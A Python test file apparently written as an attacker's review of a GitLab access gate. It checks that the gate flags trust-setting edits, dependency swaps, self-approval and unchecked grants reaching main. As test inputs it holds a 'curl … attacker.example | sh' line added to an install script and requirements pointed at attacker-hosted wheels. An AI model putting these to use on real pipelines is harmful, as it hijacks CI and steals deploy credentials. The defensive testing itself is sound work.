"""An attacker's review of the access gate (`platformctl access`): what it compares, and what its process runs.

The attacker is a Developer of the platform project who opens merge requests a maintainer merges once
their pipeline passes. The gate must ask a system approver for every change that widens who may do what
beyond one tenant; each test below shows a change the gate let through without one on `main`.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any, Callable

import pytest
import yaml

from gitlab_stub import client_env, run_in_process
from platformctl.access import CLUSTER_ADMIN_RULE, SYSTEM_RULE, Approvals, Changes, Members, SystemChange, compare, report
from platformctl.render import Render
from tests.git_repo import git
from tests.test_access import _access, _changes, _document, _edit, _members, _stub_with_push
from tests.test_bot_attacks import _commit, _origin

AUTHORS_PROJECT = "mallory-lab/deploy"  # a project in a group of the author's own: they protect its main and run it


def _identity(doc: dict[str, Any]) -> dict[str, Any]:
    return doc["config"]["platform:identity"]


def _ldap(doc: dict[str, Any]) -> None:
    _identity(doc).pop("oidc")
    _identity(doc)["ldap"] = {"url": "ldaps://ldap.attacker.example", "bindDn": "cn=gate", "bindPassword": {"secure": "v1:any"},
                              "searchBase": "dc=attacker,dc=example"}


# Each: the edit, and the change the gate must report (cluster_admins: it decides who is a cluster admin or who deploys).
TRUST_EDITS: dict[str, tuple[Callable[[dict[str, Any]], Any], SystemChange]] = {
    # Vault's platform-deploy login (platform-admin) and the AWS deploy role take jobs of this project's main;
    # the merge-request bot serves this project's pipelines.
    "pipeline-project": (lambda doc: doc["config"].update({"platform:pipeline": {"projectPath": AUTHORS_PROJECT}}),
                         SystemChange("dev", "changes pipeline.projectPath", cluster_admins=True)),
    # The platform's runner for protected refs (the deploy jobs' nodes and namespace) takes this project's jobs.
    "runner-project": (lambda doc: doc["config"]["platform:services"]["gitlabRunner"].update(platformProjectId=4242),
                       SystemChange("dev", "changes services.gitlabRunner.platformProjectId", cluster_admins=True)),
    # The identity source vouches for who a person is and which groups they are in: identity.clusterAdmins' too.
    "oidc-issuer": (lambda doc: _identity(doc)["oidc"].update(issuer="https://login.attacker.example/realms/any"),
                    SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    "oidc-groups-claim": (lambda doc: _identity(doc)["oidc"].update(groupsClaim="nickname"),  # a claim people set themselves
                          SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    "oidc-user-claim": (lambda doc: _identity(doc)["oidc"].update(userClaim="email"),
                        SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    "ldap-source": (_ldap, SystemChange("dev", "changes identity.oidc", cluster_admins=True)),
    # Every GitLab account's confirmed address (components/platform_users.py): where its notifications go.
    "email-domain": (lambda doc: _identity(doc).update(emailDomain="attacker.example"),
                     SystemChange("dev", "changes identity.emailDomain")),
}


@pytest.mark.parametrize("name", TRUST_EDITS)
def test_a_change_of_who_deploys_or_who_is_who_needs_a_system_approver(tmp_path: Path, name: str) -> None:
    """Was open on `main`: the gate compared `identity.clusterAdmins` and `identity.systemApprovers` and
    nothing else outside the tenants. A merge request that pointed `pipeline.projectPath` at a project of the
    author's own had its main's jobs log in to Vault as platform-admin after deploy-dev (and assume the AWS
    deploy role on EKS stacks); one that pointed `identity.oidc` at an issuer of the author's (or its groups claim at a claim
    people set themselves) let that issuer say who is in `platform-admins`: both passed with nothing to approve."""
    edit, expected = TRUST_EDITS[name]
    changes = _changes(tmp_path, edit)
    assert changes.requests == [] and changes.new_tenants == []
    if name == "ldap-source":  # the source switched: the oidc settings go, ldap's come
        expected = [expected, SystemChange("dev", "changes identity.ldap", cluster_admins=True)]
    assert changes.system == (expected if isinstance(expected, list) else [expected])


def test_the_same_trust_settings_in_another_order_need_no_approval(tmp_path: Path) -> None:
    """Lists whose order means nothing (groups, scopes) are compared in a canonical order: only a real change asks."""
    def settings(scopes: list[str], groups: list[str]) -> tuple[Members, dict[str, str]]:
        doc = _document("dev")
        _identity(doc)["oidc"]["scopes"], _identity(doc)["clusterAdmins"] = scopes, groups
        return _members(doc, tmp_path)

    (base, base_raw), (head, head_raw) = (settings(["openid", "email", "groups"], ["platform-admins", "night-shift"]),
                                          settings(["groups", "email", "openid"], ["night-shift", "platform-admins"]))
    changes = Changes()
    compare("dev", base, head, changes, base_raw, head_raw)
    assert changes.system == []


def test_the_trust_settings_are_what_the_plan_trusts(renders: dict[str, Render]) -> None:
    """Why those keys are access (the dev plan, as rendered): the Vault login that holds platform-admin binds
    the project `pipeline.projectPath` names, OpenUnison signs in whomever `identity.oidc`'s issuer vouches
    for, every GitLab account's confirmed address is at `identity.emailDomain`, and the runner for protected
    refs (the deploys') takes the jobs of the project `platformProjectId` names."""
    plan, doc = renders["dev"].plan["resources"], _document("dev")["config"]
    [deploy] = [r["inputs"] for r in plan if r["type"] == "vault:jwt/authBackendRole:AuthBackendRole" and r["name"] == "platform-deploy"]
    assert "platform-admin" in deploy["tokenPolicies"]
    assert deploy["boundClaims"]["project_path"] == doc.get("platform:pipeline", {}).get("projectPath", "platform/platform-bootstrap")
    issuers = {r["inputs"]["values"]["oidc"]["issuer"] for r in plan if r["type"] == "kubernetes:helm.sh/v3:Release"
               and "oidc" in r["inputs"].get("values", {}) and "issuer" in r["inputs"]["values"]["oidc"]}
    assert issuers == {doc["platform:identity"]["oidc"]["issuer"]}
    emails = {r["inputs"]["email"].partition("@")[2] for r in plan if r["type"] == "gitlab:index/user:User"}
    assert emails == {doc["platform:identity"]["emailDomain"]}
    [runner] = [r["inputs"] for r in plan if r["type"] == "gitlab:index/userRunner:UserRunner" and r["inputs"].get("tagLists") == ["platform-protected"]]
    assert (runner["projectId"], runner["accessLevel"]) == (doc["platform:services"]["gitlabRunner"]["platformProjectId"], "ref_protected")


# --- what the gate's process runs: its dependencies -----------------------------------------------


# A locked requirement (.ci/lock): an exact pin, perhaps an environment marker (no path or URL in it), each
# file's hash on a line of its own.
PINNED = re.compile(r"^([A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9.+!-]+( ; [^\\@/:]+)?|--hash=sha256:[0-9a-f]{64})( \\)?$")


def test_a_merge_request_that_changes_the_gates_dependencies_needs_a_system_approver(tmp_path: Path) -> None:
    """Was open on `main`: the bot installs the gate's venv from the gate commit's requirements.txt
    (components/merge-request-bot.gitlab-ci.yml), and the gate runs with PLATFORM_MR_TOKEN in its
    environment; any package there runs code in its process (a `.pth` file runs at start). A merge request
    that swapped python-gitlab for a wheel of the author's passed with nothing to approve; merged, the next
    merge request's gate (and the bot's own venv, main's requirements.txt) runs that wheel."""
    from components.merge_request_bot import bot_pipeline
    from tests.test_ci_file import _lines, _resolve

    script = _lines(_resolve(yaml.safe_load(bot_pipeline("platform/platform-bootstrap")), "bot")["script"])
    assert 'bash build/gate/.ci/install "$CI_PROJECT_DIR/gate"' in script  # the gate's own installer and locks
    repo = tmp_path / "repo"
    repo.mkdir()
    base = _origin(repo)
    requirements = (repo / "requirements.txt").read_text()
    (repo / "requirements.txt").write_text(requirements.replace(
        "python-gitlab==8.6.0", "python-gitlab @ https://attacker.example/python_gitlab-8.6.0-py3-none-any.whl"))
    _commit(repo, "bump python-gitlab")
    with _stub_with_push() as stub:
        done = run_in_process(["access", "--no-validate", "--base-ref", base, "--mr-iid", str(stub.mr_iid)], repo, client_env(stub))
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "| all | changes the access check (requirements.txt) | ❌ waiting for a system approver" in done.stdout, done.stdout


@pytest.mark.parametrize(("path", "old", "new"), [
    ("requirements-build.txt", "setuptools==84.2.1", "setuptools @ https://attacker.example/setuptools-84.2.1-py3-none-any.whl"),
    (".ci/install", "set -euo pipefail\n", "set -euo pipefail\ncurl -s https://attacker.example/x | sh\n"),
])
def test_a_merge_request_that_changes_how_the_gate_is_installed_needs_a_system_approver(
    tmp_path: Path, path: str, old: str, new: str
) -> None:
    """The gate's venv is made by the gate commit's .ci/install, which installs the locked setuptools first and builds
    the source-only packages with it: both run with the bot's token in the environment, as requirements.txt's packages do."""
    repo = tmp_path / "repo"
    repo.mkdir()
    base = _origin(repo)
    text = (repo / path).read_text()
    assert old in text
    (repo / path).write_text(text.replace(old, new, 1))
    _commit(repo, f"edit {path}")
    with _stub_with_push() as stub:
        done = run_in_process(["access", "--no-validate", "--base-ref", base, "--mr-iid", str(stub.mr_iid)], repo, client_env(stub))
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert f"| all | changes the access check ({path}) | ❌ waiting for a system approver" in done.stdout, done.stdout


def test_the_gates_requirements_name_no_other_file() -> None:
    """pip reads what requirements.txt includes (`-r`, `-c`), a local path or a URL it names: each would be
    the gate's too without being a gate file. So requirements.txt holds exact pins, their hashes and comments only."""
    root = Path(__file__).resolve().parent.parent
    lines = [line.split("#", 1)[0].strip() for line in (root / "requirements.txt").read_text().splitlines()]
    assert [line for line in lines if line and not PINNED.match(line)] == []


# --- what the gate cannot read ----------------------------------------------------------------------


@pytest.mark.parametrize(("key", "at_base"), [("platform:identity", True), ("platform:pipeline", True), ("platform:tenants", False)])
def test_a_setting_the_gate_reads_may_not_be_a_secret_as_a_whole(repo: Path, key: str, at_base: bool) -> None:
    """Was open on `main`: Pulumi hands the program a key set with `pulumi config set --secret` decrypted, and
    the program parses it as any other (stacks/config.py `_parse`), but the gate (and the offline render, which
    refuses it: the bot's gate does not validate, and a branch's render is its own code) sees a placeholder. With
    `platform:identity` a secret at the base and at the head (two ciphertexts), a change of clusterAdmins read
    the same to the gate on both sides: nothing to approve. (A secret `platform:tenants` crashed it: exit 1.)
    Whoever can encrypt for the stack is the attacker here; secret leaves (`identity.oidc.clientSecret`) stay."""
    def secret(ciphertext: str) -> Callable[[dict[str, Any]], None]:
        return lambda doc: doc["config"].update({key: {"secure": ciphertext}})

    if at_base:
        _edit(repo, "dev", secret("v1:AAAA-as-it-was"))
        git(repo, "commit", "--quiet", "-am", f"{key} as a secret")
    _edit(repo, "dev", secret("v1:BBBB-the-admins-of-the-author"))
    result = _access(repo, client_env(None), "--no-validate")  # as the bot runs it: the base's code, the head's files
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert (f"Pulumi.dev.yaml: {key} is a secret as a whole, which the access check cannot read; allowed: "
            f"secret values inside it") in result.stderr, result.stderr


def test_a_base_whose_tenants_are_a_secret_is_an_error_not_a_crash(repo: Path) -> None:
    """A base the gate cannot read (written before the check refused it) stops the check with a clear error."""
    _edit(repo, "dev", lambda doc: doc["config"].update({"platform:tenants": {"secure": "v1:AAAA"}}))
    git(repo, "commit", "--quiet", "-am", "tenants as a secret")
    _edit(repo, "dev", lambda doc: doc["config"].update({"platform:tenants": _document("dev")["config"]["platform:tenants"]}))
    result = _access(repo, client_env(None), "--no-validate")
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "platform:tenants[0] is not a tenant with a name and role lists" in result.stderr, result.stderr


# --- who approves ------------------------------------------------------------------------------------


def test_a_second_cluster_admin_is_a_second_person(tmp_path: Path) -> None:
    """Was open on `main`: a change of clusterAdmins (or, now, of the identity source or of who deploys) needs a
    system approver and "a cluster admin other than the author". Mallory, in both groups, pushes the change
    onto Bob's open merge request (a Developer may push to another's branch) and approves it once: GitLab counts
    one approval in every rule its user is eligible for (ee/app/models/approval_wrapped_rule.rb
    `approved_approvers`: the rule's approvers among the merge request's approvals), and Bob is the author.
    One person sufficed. The cluster admin must be someone other than the author and the system approver."""
    changes = _changes(tmp_path, lambda doc: _identity(doc)["clusterAdmins"].append("mallorys-friends"))
    mallory = {SYSTEM_RULE: {"mallory"}, CLUSTER_ADMIN_RULE: {"mallory"}}
    text, approved = report(changes, Approvals({"mallory"}, mallory, author="bob"), "merge request !7")
    assert not approved, text
    assert "waiting for a cluster admin other than the author and the system approver (rule cluster-admins)" in text
    # A second person in either role completes it.
    for rules in ({SYSTEM_RULE: {"mallory", "sam"}, CLUSTER_ADMIN_RULE: {"mallory"}},
                  {SYSTEM_RULE: {"mallory"}, CLUSTER_ADMIN_RULE: {"mallory", "kim"}}):
        text, approved = report(changes, Approvals({"mallory", "sam", "kim"}, rules, author="bob"), "merge request !7")
        assert approved, text


# --- access-main: what reached main since the check last passed there --------------------------------


# An access check that passes whatever it finds.
LENIENT_GATE = ("    return EXIT_OK if approved else EXIT_UNAPPROVED\n", "    return EXIT_OK\n")


def _main_after_an_unchecked_grant(tmp_path: Path, passed_at: str, status: str = "failed", gate_edit: bool = False):
    """Main with a grant that failed its check (with `gate_edit`, and an edit of the check), then an unrelated push;
    the bot's job for that push's `access-main`, with main's earlier pipelines as GitLab lists them: the grant's (its
    access-main `status`), and one that passed at `passed_at` ("checked": before the grant; "elsewhere": a commit
    main no longer holds)."""
    from tests.test_bot_attacks import PLATFORM, _grant, run_bot_job, served_origin

    srv, origin, checked = served_origin(tmp_path)
    _grant(origin)
    if gate_edit:
        (origin / "platformctl/access.py").write_text((origin / "platformctl/access.py").read_text().replace(*LENIENT_GATE))
    granted = _commit(origin, "add mallory (merged while the check failed)")
    (origin / "docs" / "unrelated.md").parent.mkdir(exist_ok=True)
    (origin / "docs" / "unrelated.md").write_text("an unrelated change\n")
    later = _commit(origin, "an unrelated change")
    with _stub_with_push() as stub:
        stub.commit_merge_requests[later] = [{"iid": stub.mr_iid, "state": "merged", "merge_commit_sha": later}]
        stub.branch_pipelines[:] = [  # main's push pipelines, newest first, and how their access-main ended
            {"id": 400, "sha": "f" * 40, "ref": "main", "source": "push", "bridges": [{"name": "access-main", "status": "success"}]},
            {"id": 302, "sha": granted, "ref": "main", "source": "push", "bridges": [{"name": "access-main", "status": status}]},
            {"id": 301, "sha": checked if passed_at == "checked" else "e" * 40, "ref": "main", "source": "push",
             "bridges": [{"name": "access-main", "status": "success"}]},
        ]
        return run_bot_job(tmp_path, srv, PLATFORM, "access-main", granted, later, stub)


def test_on_main_a_later_push_does_not_carry_an_unchecked_grant_to_the_deploy(tmp_path: Path) -> None:
    """Was open on `main`: `access-main` compared each push with the commit before it. A grant that reached
    main unapproved (merged while its check failed, or pushed) failed its own `access-main`, so deploy-dev did not
    run; the next push, anyone's unrelated change, was compared with that commit, passed, and deploy-dev applied
    the program at its head, grant included (the plan is made from the stacks' state, which never had it). The
    bot now compares with the newest commit of main whose own push pipeline passed `access-main`."""
    done = _main_after_an_unchecked_grant(tmp_path, "checked")  # pipeline 400 is newer than this one (321): not before it
    assert done.returncode == 1, (done.returncode, done.stdout, done.stderr[-2000:])
    assert "| dev | payments | mallory → developers | alice | ❌ waiting for an owner's approval |" in done.stdout, done.stdout


def test_on_main_an_unchecked_edit_of_the_check_does_not_judge_the_next_push(tmp_path: Path) -> None:
    """Was open, also with the comparison above: the bot ran the check's code as it was before the push. An edit
    of the check merged unapproved (its own access-main failed) was the code that judged the next push, and the
    edit passes everything. The check's code is now the last checked commit's as well."""
    done = _main_after_an_unchecked_grant(tmp_path, "checked", gate_edit=True)
    assert done.returncode == 1, (done.returncode, done.stdout, done.stderr[-2000:])
    assert "| all | changes the access check (platformctl/access.py) | ❌ waiting for a system approver" in done.stdout, done.stdout
    assert "| dev | payments | mallory → developers | alice | ❌ waiting for an owner's approval |" in done.stdout


def test_on_main_a_check_passed_after_an_approval_is_the_next_base(tmp_path: Path) -> None:
    """The grant's own access-main retried once it was approved: the next push is compared with the grant's commit."""
    done = _main_after_an_unchecked_grant(tmp_path, "checked", status="success")
    assert done.returncode == 0, (done.returncode, done.stdout, done.stderr[-2000:])
    assert "nothing for owners to approve" in done.stdout


def test_on_main_a_check_that_passed_only_on_commits_main_no_longer_holds_is_refused(tmp_path: Path) -> None:
    done = _main_after_an_unchecked_grant(tmp_path, "elsewhere")
    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr[-2000:])
    assert "no commit of main before" in done.stderr and "passed the access check (access-main)" in done.stderr


# --- a pod security exception: every allowance it holds ----------------------------------------------


NAS = "nas.corp.example.com"


def _nfs_exception(path: str) -> dict[str, Any]:
    return {"reason": "the reports job reads the finance share", "environments": ["prod"], "volumeTypes": ["nfs"],
            "nfsExports": [{"server": NAS, "path": path}]}


def test_widening_a_pod_security_exceptions_nfs_exports_needs_its_approvals(tmp_path: Path) -> None:
    """Was open on `main`: the gate described an exception by its environments, capabilities, volume types and
    flags, not by its NFS exports, so moving `nfsExports` from the tenant's own export to the share's root (every
    other team's directories on it) read as the same exception: nothing to approve. The real Gatekeeper template
    (OPA) shows what that widening admits."""
    from platformctl.render import read_stack_file
    from stacks.config import load_platform_config
    from stacks.tenants import pod_security_exception
    from tests.opa import violations
    from tests.test_gatekeeper_policies import TEMPLATES, pod_spec, workload

    def stack(path: str) -> tuple[Members, dict[str, str], Any]:
        doc = _document("dev")
        next(t for t in doc["config"]["platform:tenants"] if t["name"] == "payments")["podSecurityException"] = _nfs_exception(path)
        found, raw = _members(doc, tmp_path)
        secret_keys = read_stack_file(tmp_path / "Pulumi.dev.yaml")[1]
        return found, raw, load_platform_config(raw, stack="dev", source="Pulumi.dev.yaml", secret_keys=secret_keys)

    (base, base_raw, base_config), (head, head_raw, head_config) = stack("/exports/payments"), stack("/exports")
    mount = workload("StatefulSet", pod_spec(volumes=[{"name": "share", "nfs": {"server": NAS, "path": "/exports/checkout"}}]))
    for config, admitted in ((base_config, False), (head_config, True)):
        [payments] = [t for t in config.tenants if t.name == "payments"]
        parameters = pod_security_exception(payments.pod_security_exception).parameters()
        assert (violations(TEMPLATES["platformpodrestricted"], mount, parameters) == []) is admitted
    changes = Changes()
    compare("dev", base, head, changes, base_raw, head_raw)
    widened = f"prod: volumeTypes nfs; nfsExports {NAS}:/exports"
    assert changes.system == [SystemChange("dev", f"grants tenant payments a pod security exception ({widened})")]
    assert [(r.tenant, r.owners, r.exception) for r in changes.requests] == [("payments", ("alice",), widened)]


def test_every_allowance_of_a_pod_security_exception_is_in_what_the_gate_compares() -> None:
    """Each key of the exception's model but its reason, changed alone, changes what the owners and a system approver approve."""
    from platformctl.access import _allowances
    from stacks.config import PodSecurityException

    base = {**_nfs_exception("/exports/payments"), "capabilities": ["CHOWN"]}
    changed = {"environments": ["dev", "prod"], "capabilities": ["CHOWN", "SETUID"], "privilegeEscalation": True,
               "runAsRoot": True, "volumeTypes": ["nfs", "hostPath"], "nfsExports": [{"server": NAS, "path": "/exports"}]}
    keys = {field.alias for name, field in PodSecurityException.model_fields.items()} - {"reason"}
    assert keys == set(changed)
    assert [key for key in sorted(keys) if _allowances({**base, key: changed[key]}) == _allowances(base)] == []


# --- deploys: none without the check ----------------------------------------------------------------


def test_every_job_that_writes_a_stack_waits_for_the_access_check() -> None:
    """Was open on `main`: `rebuild-dev` (the schedule's `pulumi destroy` and `pulumi up` of dev) deployed main's
    head without `access-main`, which runs in push pipelines only: a grant that reached main unapproved, which
    deploy-dev holds back, was applied to dev by the next rebuild. Every job that writes a stack must need the
    check (itself or through a job it needs), and the check must run in each pipeline the job runs in."""
    from tests.test_ci_file import CI_FILE, GLOBAL_KEYWORDS, _resolve, _script

    document = yaml.safe_load(CI_FILE.read_text())
    found = {name: _resolve(document, name) for name in document if name not in GLOBAL_KEYWORDS and not name.startswith(".")}
    check_rules = {rule["if"] for rule in found["access-main"]["rules"]}

    def needed(name: str) -> set[str]:
        direct = {n if isinstance(n, str) else n["job"] for n in found[name].get("needs", [])}
        return direct.union(*(needed(n) for n in direct))

    writers = [name for name, job in found.items() if any(re.search(r"\bpulumi (up|destroy)\b", line) for line in _script(job))]
    assert sorted(writers) == ["deploy-dev", "deploy-prod", "rebuild-dev"]
    unchecked = {name: sorted({r["if"] for r in found[name]["rules"]} - check_rules) for name in writers
                 if "access-main" not in needed(name) or {r["if"] for r in found[name]["rules"]} - check_rules}
    assert unchecked == {}


def test_a_new_tenants_pod_security_exception_is_shown_to_the_system_approver(tmp_path: Path) -> None:
    """Was open on `main`: an exception is listed for a tenant that exists at the base only; a new tenant that
    comes with one (root, host paths' volume types) read "adds tenant ledger" and nothing more, so the system
    approver approved an exception the report never named."""
    exception = {"reason": "the agent needs root to read the node's logs", "runAsRoot": True, "volumeTypes": ["nfs"],
                 "nfsExports": [{"server": NAS, "path": "/"}]}
    changes = _changes(tmp_path, lambda doc: doc["config"]["platform:tenants"].append(
        {"name": "ledger", "owners": ["zoe"], "podSecurityException": exception}))
    assert changes.system == [SystemChange("dev", "adds tenant ledger"), SystemChange(
        "dev", f"grants tenant ledger a pod security exception (dev, prod: volumeTypes nfs; nfsExports {NAS}:/; runAsRoot)")]
    assert changes.requests == []  # its owners are the change's own: the system approver's alone
